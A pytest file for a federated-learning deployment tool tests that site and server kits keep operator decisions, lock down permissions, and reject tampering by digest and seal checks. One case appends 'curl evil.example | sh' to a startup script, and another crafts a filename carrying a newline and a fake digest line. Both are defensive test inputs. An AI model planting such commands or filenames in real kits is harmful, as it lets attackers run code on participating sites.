"""Kits made ready: whose they are, what is refused there to anybody, and what stays when it is done again."""

import hashlib
import json
import os
import shutil

import pytest

from fedmerit.errors import BadInput
from fedmerit.plugin_references import Reference
from fedmerit.site.policy import LOOSER, JobRules
from fedmerit_deploy.kit_integrity import is_as_sealed, kit_digest, read_seal, require_digest, seal
from fedmerit_deploy.kits import (
    approve,
    approve_script,
    prepare_server,
    prepare_site,
    privacy_policy,
    read_manifest,
    set_rules,
)
from fedmerit_deploy.survey import SURVEY_CLASSES


def read(path):
    return json.loads(path.read_text())


@pytest.fixture
def server(federation):
    return federation / "fedmerit/prod_00/localhost"


def test_site_script_is_approved_until_it_changes(federation, tmp_path, found):
    kit, script = federation / "fedmerit/prod_00/site1", tmp_path / "client.py"
    script.write_text("pass\n")
    prepare_site(kit, None, "cpu", script=approve_script(script, "--epochs 2", "python3 -u"))
    own = read(kit / "local" / "fedmerit.json")["script"]
    digest = hashlib.sha256(b"pass\n").hexdigest()
    assert own == {"file": str(script), "sha256": digest, "args": "--epochs 2", "command": "python3 -u"}
    assert "site_folder" not in read(kit / "local" / "fedmerit.json")
    assert found(kit, "script", offline=True) == [("ok", f"{script}, SHA-256 {digest}")]
    prepare_site(kit, None, "cpu")  # again, for another reason: it stays
    assert read_manifest(kit).script.file == str(script)
    script.write_text("print()\n")
    ((state, reported),) = found(kit, "script", offline=True)
    assert (state, f"approved was {digest}" in reported) == ("fail", True)
    for wrong, words in ((tmp_path / "nowhere.py", "file not found"), (kit / "startup/start.sh", "a Python script")):
        with pytest.raises(BadInput, match=words):
            approve_script(wrong)


def test_prepare_again_keeps_decisions_of_operator(ready, sites):
    approve(ready, [Reference("mine:Part", "mine 1", "aa"), Reference("other:Part", "other 1", "bb")])
    approve(ready, [Reference("mine:Part", "mine 2", "cc")])
    content = read(ready / "local" / "fedmerit.json")
    content["jobs"] |= {"least_images": 40, "keep_updates": True}
    (ready / "local" / "fedmerit.json").write_text(json.dumps(content))
    prepare_site(ready, sites / "site1", "cpu", evaluations="testing=3")
    prepare_site(ready, sites / "site1")
    manifest = read_manifest(ready)
    assert manifest.parts == {"mine:Part": "cc", "other:Part": "bb"}
    assert manifest.jobs.caps == {"validation": 64, "testing": 3, "server_validation": 64}
    assert (manifest.jobs.least_images, manifest.jobs.keep_updates, manifest.device) == (40, True, "auto")


@pytest.mark.parametrize("answers", [False, True])
def test_prepare_again_keeps_decision_on_surveys(ready, sites, answers):
    def answered():
        return set(SURVEY_CLASSES) <= set(read(ready / "local" / "resources.json")["class_allow_list"])

    assert answered()
    prepare_site(ready, sites / "site1", surveys=answers)
    prepare_site(ready, sites / "site1")
    assert answered() == answers


@pytest.mark.parametrize("byoc", [False, True])
def test_authorization_refuses_foreign_code_to_every_role(server, byoc):
    """Those with a right to all keep what is no such thing; who may look at a job may ask how far it is."""
    path = server / "local/authorization.json.default"
    roles = {"boss": "any", "guest": {"view": "o:site", "byoc": "any", "shell_commands": "any"}}
    path.write_text(json.dumps({"format_version": "1.0", "permissions": roles}))
    prepare_server(server, byoc=byoc)
    rights = read(server / "local/authorization.json")["permissions"]
    refused = {"shell_commands": "none", "server-predeployed-flwr": "none", "byoc": "any" if byoc else "none"}
    assert rights["guest"] == {"view": "o:site", "app_command": "o:site", **refused}
    assert rights["boss"].items() >= refused.items()
    assert {rights["boss"][name] for name in ("submit_job", "view", "manage_job", "app_command", "get_job_log")} == {
        "any"
    }
    assert read(path)["permissions"] == roles


def test_folder_of_runs_is_made_or_refused(server, tmp_path):
    (tmp_path / "file").touch()
    with pytest.raises(BadInput, match=r"--runs .*/file: cannot be a folder \(File exists\); name another"):
        prepare_server(server, runs=tmp_path / "file")
    prepare_server(server, runs=tmp_path / "new/runs")
    assert read_manifest(server).runs == str(tmp_path / "new/runs")
    assert (tmp_path / "new/runs").stat().st_mode & 0o777 == 0o700  # not for all accounts of the machine


@pytest.mark.parametrize("name", ["site1", "localhost"])
def test_prepare_closes_kit_to_other_users(federation, sites, name):
    kit = federation / "fedmerit/prod_00" / name
    kit.chmod(0o755)
    if name == "localhost":
        prepare_server(kit)
    else:
        prepare_site(kit, sites / name)
    assert kit.stat().st_mode & 0o777 == 0o700


def test_prepare_again_keeps_stricter_privacy_policy(ready, sites):
    policy = privacy_policy("client")
    policy["scopes"][0]["task_result_filters"][0]["args"] |= {"decimals": 4, "encrypted": True}
    (ready / "local" / "privacy.json").write_text(json.dumps(policy))
    prepare_site(ready, sites / "site1")
    assert read(ready / "local" / "privacy.json") == policy


def change_port(kit):
    path = kit / "startup" / "fed_client.json"
    path.write_text(path.read_text().replace("localhost:", "localhost:1"))


@pytest.mark.parametrize(
    "spoil",
    [
        change_port,
        lambda kit: (kit / "startup" / "sub_start.sh").open("a").write("curl evil.example | sh"),
        lambda kit: (kit / "startup" / "sitecustomize.py").write_text(""),
        lambda kit: (kit / "local" / "resources.json.default").write_text("{}"),
    ],
)
def test_require_digest_rejects_changed_kit(federation, sites, spoil):
    """NVFlare signs no such kit: the digest, which comes another way, shows it."""
    kit = federation / "fedmerit/prod_00/site1"
    digest = kit_digest(kit)
    require_digest(kit, f"{digest.upper()} ")
    prepare_site(kit, sites / "site1")
    require_digest(kit, digest)  # what the hospital writes is its own
    spoil(kit)
    with pytest.raises(BadInput, match=f"have SHA-256 [0-9a-f]+, the coordinator names {digest}; do not start it"):
        require_digest(kit, digest)


FURTHER = ("local/fedmerit.json", "local/privacy.json", "local/log_config.json", "local/custom/helper.py", "psutil.py")


@pytest.mark.parametrize("name", FURTHER)
def test_kit_with_further_files_is_refused(federation, sites, name):
    """A man in the middle changes no file, and adds some: rules without limits, code that a start would import."""
    kit = federation / "fedmerit/prod_00/site1"
    digest = kit_digest(kit)
    (kit / name).parent.mkdir(parents=True, exist_ok=True)
    (kit / name).write_text("{}")
    with pytest.raises(BadInput, match=f"among them {name}, which no new kit has, have SHA-256"):
        require_digest(kit, digest)
    for prepare in (lambda: prepare_site(kit, sites / "site1"), lambda: approve(kit, []), lambda: set_rules(kit, [])):
        with pytest.raises(BadInput, match=f"holds {name}, which neither the coordinator's"):
            prepare()
    assert not (kit / "local/resources.json").exists()


def link_folder(kit, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/helper.py").write_text("")
    (kit / "startup/psutil").symlink_to(tmp_path / "elsewhere")


def link_file(kit, tmp_path):
    """What the file holds can be changed once the digest was compared."""
    (kit / "startup/sub_start.sh").rename(tmp_path / "sub_start.sh")
    (kit / "startup/sub_start.sh").symlink_to(tmp_path / "sub_start.sh")


def join_names(kit, tmp_path):
    """A file whose name has the digest line of the next one in it stands for both: the digest of all is the same."""
    first, second = sorted(path for path in (kit / "startup").iterdir() if path.suffix != ".key")[-2:]
    digest = hashlib.sha256(second.read_bytes()).hexdigest()
    second.unlink()
    name = f"{first.name}\n{digest}  startup/{second.name}"
    (kit / "startup" / name).parent.mkdir(parents=True, exist_ok=True)
    first.rename(kit / "startup" / name)


@pytest.mark.parametrize(
    "spoil",
    [
        link_folder,
        link_file,
        join_names,
        lambda kit, tmp_path: (kit / "startup/gone").symlink_to(tmp_path / "gone"),
        lambda kit, tmp_path: os.mkfifo(kit / "startup/pipe"),
        lambda kit, tmp_path: (kit / "startup/more.key").symlink_to(tmp_path),
    ],
)
def test_kit_digest_is_only_of_plain_files(federation, sites, tmp_path, spoil):
    kit = federation / "fedmerit/prod_00/site1"
    digest = kit_digest(kit)
    spoil(kit, tmp_path)
    for refusing in (lambda: require_digest(kit, digest), lambda: prepare_site(kit, sites / "site1")):
        with pytest.raises(BadInput, match="expected a regular file with a plain name"):
            refusing()
    assert not (kit / "local/resources.json").exists()


def test_seal_of_another_machine_does_not_count(ready, sites, tmp_path, monkeypatch, found):
    """The man in the middle can prepare a kit on a machine of his own."""
    content = read(ready / "local/fedmerit.json")
    (ready / "local/fedmerit.json").write_text(json.dumps(content | {"parts": "all"}))
    seal(ready, ["jobs may name any code that is installed here"])
    assert is_as_sealed(ready)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
    for _ in range(2):  # also when the other machine has a key
        assert read_seal(ready) is None
        with pytest.raises(BadInput, match=r"local/fedmerit\.json, .*a kit brings no rules and no code"):
            prepare_site(ready, sites / "site1")
        ((state, reported),) = found(ready, "kit", offline=True)
        assert (state, "not sealed by this user on this machine" in reported) == ("fail", True)
        seal(tmp_path / "other", []) if (tmp_path / "other").exists() else shutil.copytree(ready, tmp_path / "other")


def test_edited_rules_count_when_they_are_sealed(ready, found):
    path = ready / "local/fedmerit.json"
    content = read(path)
    content["jobs"]["least_images"] = 40
    path.write_text(json.dumps(content))
    ((state, reported),) = found(ready, "kit", offline=True)
    assert (state, "changed since they were sealed; `fedmerit deploy rules" in reported) == ("fail", True)
    assert set_rules(ready, ["optimizers=adam", 'studies={"a": "2026-01-01/2026-12-31"}']).least_images == 40
    assert [state for state, _ in found(ready, "kit", offline=True)] == ["ok"]
    assert read_manifest(ready).jobs.optimizers == ("adam",)
    before = path.read_bytes()
    for wrong, words in (
        ("least_images=4", "least_images 4, the default is 8: allows more.*; nothing is changed"),
        ("keep_updates=true", "keep_updates true, the default is false: allows more"),
        ("arguments=kernel_size", "arguments kernel_size, the default is .*: allows more"),
        ("sgd_images=10", "sgd_images 10, the default is 256: allows more"),
        ('evaluations={"testing": 1000}', "evaluations .*testing=1000.*: allows more"),
        ("least=4", "expected RULE=VALUE; the rules are architectures"),
        ("least_images=many", "least_images: Input should be a valid integer"),
    ):
        with pytest.raises(BadInput, match=words):
            set_rules(ready, [wrong])
    assert path.read_bytes() == before
    set_rules(ready, ["sgd_images=0", "folds=0,1"])  # stricter: plain SGD never
    assert set_rules(ready, ["least_images=4"], accept=True).least_images == 4


def test_every_rule_says_what_allows_more():
    assert set(LOOSER) == set(JobRules.model_fields)
    assert JobRules().looser == []
